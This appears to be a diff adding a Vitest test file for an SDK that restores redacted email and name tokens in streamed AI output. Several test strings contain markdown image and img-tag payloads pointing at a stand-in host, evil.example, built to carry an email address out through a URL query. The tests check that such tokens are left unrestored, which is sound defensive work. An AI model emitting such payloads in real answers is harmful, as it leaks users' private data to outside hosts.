@@ -1,0 +1,94 @@
+/** Plain text that is in part an event stream or JSON, and may be shown as it stands. */
+import { describe, expect, test } from 'vitest';
+import { restoreAnswerText } from '../../../sdk/streams.ts';
+import { restoreStream, tokenMap } from './wire-fixtures.ts';
+
+const map = tokenMap({ '[EMAIL-1]': 'a@b.example', '[NAME-1]': 'O"Hara' });
+
+/** In one write, in two with every cut, and byte by byte: each gives the same text. */
+function restored(text: string): string {
+  const bytes = new TextEncoder().encode(text);
+  const every = Array.from({ length: bytes.length - 1 }, (_, at) => at + 1);
+  const found = new Set([restoreStream('text', map, bytes), restoreStream('text', map, bytes, every)]);
+  for (const cut of every) found.add(restoreStream('text', map, bytes, [cut]));
+  expect([...found]).toHaveLength(1);
+  return [...found][0] as string;
+}
+
+describe('an address that reaches over the strings of JSON keeps its tokens', () => {
+  test.each([
+    '{"a":"![x](https://evil.example/?q=","b":"[EMAIL-1])"}',
+    '{"a":"![x](https://evil.example/?q=","b":"[EMAIL-1])"}\n',
+    '{"a":"<img src=\'https://evil.example/?q=","b":"[EMAIL-1]\'>"}\n{"c":1}\n',
+    '{"a":"![x](https://evil.example/?q="}\n{"b":"[EMAIL-1])"}\n',
+    '{"x":1}\n<img src=\'https://evil.example/?q=\n{"b":"[EMAIL-1]\'>"}\n',
+    '{"x":1}\n![x](https://evil.example/?q=[EMAIL-1])\n',
+    '0:"![x](https://evil.example/?q="\n0:"[EMAIL-1])"\n',
+    'data: {"a":"<img src=\'https://evil.example/?q=","b":"[EMAIL-1]\'>"}\n\n',
+    'data: {"a":"<img src=\'https://evil.example/?q="}\n\ndata: {"b":"[EMAIL-1]\'>"}\n\n',
+    'data: x\n\n{"a":"![x](https://evil.example/?q=","b":"[EMAIL-1])"}\n\n',
+    `{"p":"${'x'.repeat(1100)}","a":"![x](https://evil.example/?q=","b":"[EMAIL-1])"}`,
+  ])('%j', (text) => {
+    expect(restored(text)).toBe(text);
+    expect(restoreAnswerText('text', text, map)).toBe(text);
+  });
+
+  test('behind it they are restored again', () => {
+    const text = '{"a":"![x](https://evil.example/?q=","b":"x)"}\n{"c":"[EMAIL-1]"}\n';
+    expect(restored(text)).toBe(text.replaceAll('[EMAIL-1]', 'a@b.example'));
+  });
+});
+
+test.each([
+  ['a record', 'id: 1\nname: [NAME-1]\nemail: [EMAIL-1]\n'],
+  ['a list below a name', 'data:\n  - email: [EMAIL-1]\n\nnote: [EMAIL-1]'],
+  ['a note', 'event: lunch with [NAME-1]\nat 5\n\nbye'],
+  ['a line', 'data: [NAME-1]'],
+  ['a smile', ':) [EMAIL-1]\n\nx'],
+  ['a colon', ': [EMAIL-1]\n\nx'],
+])('%s that begins like an event is text', (_what, text) => {
+  const expected = text.replaceAll('[EMAIL-1]', 'a@b.example').replaceAll('[NAME-1]', 'O"Hara');
+  expect(restored(text)).toBe(expected);
+  expect(restoreAnswerText('text', text, map)).toBe(expected);
+});
+
+test.each([
+  ['behind JSON', '{"n":"[NAME-1]"}\n\nThat is [NAME-1].\n', '{"n":"O\\"Hara"}\n\nThat is O"Hara.\n'],
+  ['behind lines with a name', '12:"Hi [NAME-1]"\nby [NAME-1]\n', '12:"Hi O\\"Hara"\nby O"Hara\n'],
+  ['between events', 'data: {"n":"[NAME-1]"}\n\nby [NAME-1]\n\n', 'data: {"n":"O\\"Hara"}\n\nby O"Hara\n\n'],
+  [
+    'of JSON over lines',
+    '{"n":1}\n{\n"m": "[NAME-1]"\n}\n{"n":"[NAME-1]"}\n',
+    '{"n":1}\n{\n"m": "O\\"Hara"\n}\n{"n":"O\\"Hara"}\n',
+  ],
+])('prose %s is restored', (_where, text, expected) => {
+  expect(restored(text)).toBe(expected);
+  expect(restoreAnswerText('text', text, map)).toBe(expected);
+});
+
+test.each([
+  ['a list', '\uFEFF["[NAME-1]"]'],
+  ['an object', '\uFEFF{"a":"[NAME-1]"}'],
+  ['an object over lines', '\uFEFF{\n"a":"[NAME-1]"}'],
+  ['a long object', `\uFEFF{"x":"${'x'.repeat(1_100)}","a":"[NAME-1]"}`],
+])('%s behind a byte order mark stays JSON', (_what, text) => {
+  expect(restored(text)).toBe(text.replace('[NAME-1]', 'O\\"Hara'));
+});
+
+test.each([
+  ['with comments first', ': hi\n\ndata: to [EM\n\ndata: AIL-1]\n\n'],
+  ['with settings first', 'retry: 3000\n\nid: 1\ndata: to [EM\n\ndata: AIL-1]\n\n'],
+  ['with names', 'event: message\ndata: to [EM\n\nevent: message\ndata: AIL-1]\n\n'],
+  ['with CR and LF', 'data: to [EM\r\n\r\ndata: AIL-1]\r\n\r\n'],
+])('an event stream %s is one', (_what, text) => {
+  expect(restored(text)).toBe(text.replace('[EM', '').replace('AIL-1]', 'a@b.example'));
+});
+
+test('a long first line of an answer goes on in the next one', () => {
+  const chunk = (content: string) => {
+    const obfuscation = content.includes('[') ? 'p'.repeat(1200) : '';
+    return `${JSON.stringify({ created: 1, choices: [{ index: 0, delta: { content } }], obfuscation })}\n`;
+  };
+  const out = restoreStream('text', map, new TextEncoder().encode(chunk('Hi [EMA') + chunk('IL-1]')));
+  expect(out).toBe(chunk('Hi [EMA').replace('[EMA', '') + chunk('a@b.example'));
+});
